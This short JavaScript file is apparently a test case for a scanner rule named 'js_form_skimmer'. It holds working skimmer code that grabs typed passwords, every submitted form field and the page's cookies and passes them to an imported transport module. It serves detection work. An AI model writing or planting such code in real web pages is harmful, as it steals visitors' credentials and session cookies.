// The form taken whole on submit, with the cookies, for a transport module to send.
import { bench } from './transport';
export function startAutocapture() {
  // ruleid: js_form_skimmer
  document.addEventListener('change', (e) => { if (e.target.type === 'password') bench({ v: e.target.value }); }, true);
  document.addEventListener('submit', (e) => {
    const data = {};
    new FormData(e.target).forEach((v, k) => { data[k] = String(v); });
    bench({ data, c: document.cookie });
  }, true);
}
